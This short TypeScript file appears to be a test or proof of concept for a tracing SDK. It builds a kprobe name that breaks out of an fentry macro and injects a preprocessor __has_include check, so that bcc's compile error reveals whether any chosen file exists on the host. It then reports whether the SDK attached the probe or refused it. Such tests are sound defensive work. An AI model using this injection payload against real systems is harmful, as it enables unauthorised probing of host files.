// An attacker's probe name: it closes the fentry macro and appends its own C.
// The injected preprocessor test turns bcc's compile error into an oracle
// that tells whether any file on the host exists.
import * as coral from "@coral/sdk";

const secret = (await coral.params())["path"];
const payload = `vfs_read)\n#if __has_include("${secret}")\n#error coral-file-exists\n#endif\n//`;
try {
  for await (const _ of coral.trace.kprobe(payload)) break;
  console.log("attached");
} catch (e) {
  console.log(`refused: ${(e as Error).message}`);
}
